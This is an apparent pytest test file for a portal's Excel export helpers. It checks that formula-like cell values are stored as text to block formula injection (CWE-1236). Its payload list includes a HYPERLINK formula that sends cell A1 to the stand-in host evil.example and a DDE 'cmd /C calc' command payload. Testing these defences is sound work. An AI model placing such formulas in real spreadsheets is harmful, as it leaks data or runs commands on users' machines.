"""Text that looks like a formula is written to Excel as text (formula injection, CWE-1236)."""

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from ethnic_portal import excel_safe
from ethnic_portal.excel_import import Column, build_template

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
    "\t=1+1",
]
HARMLESS = ["Quyết định 123/QĐ-UBND", "Nguyễn Văn A", "", "=", "a=b", 42, None]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(
            archive.read(name).decode("utf-8") for name in archive.namelist() if name.startswith("xl/worksheets/")
        )


def _saved(workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("write_only", [False, True])
def test_put_and_append_keep_formula_text_as_text(write_only):
    workbook = Workbook(write_only=write_only)
    ws = workbook.create_sheet("S") if write_only else workbook.active
    if not write_only:
        for index, value in enumerate(PAYLOADS + HARMLESS, start=1):
            excel_safe.put(ws, index, 1, value)
    excel_safe.append_row(ws, PAYLOADS)
    excel_safe.append_row(ws, HARMLESS)
    data = _saved(workbook)
    assert "<f>" not in _sheet_xml(data)
    read = load_workbook(io.BytesIO(data))
    values = [cell.value for row in read[ws.title].iter_rows() for cell in row]
    for payload in PAYLOADS:
        assert payload in values  # kept exactly as typed, as text
    for cell in (cell for row in read[ws.title].iter_rows() for cell in row):
        assert cell.data_type != "f"
        if excel_safe.risky(cell.value):
            assert cell.quotePrefix  # stays text when an officer edits the cell


def test_import_template_reference_sheets_are_text_safe():
    columns = [Column("note", "Ghi chú", kind="text")]
    data = build_template(columns, reference_sheets=[("Tham chieu", ["Số quyết định"], [[p] for p in PAYLOADS])])
    assert "<f>" not in _sheet_xml(data)
    sheet = load_workbook(io.BytesIO(data))["Tham chieu"]
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == PAYLOADS


def test_report_forms_write_unit_and_label_text_safely():
    """The report writer's single cell function (reports/excel/common.py `_put`) is text-safe."""
    from reports.excel.common import _put

    workbook = Workbook()
    for index, payload in enumerate(PAYLOADS, start=1):
        _put(workbook.active, index, 1, payload)
    assert "<f>" not in _sheet_xml(_saved(workbook))
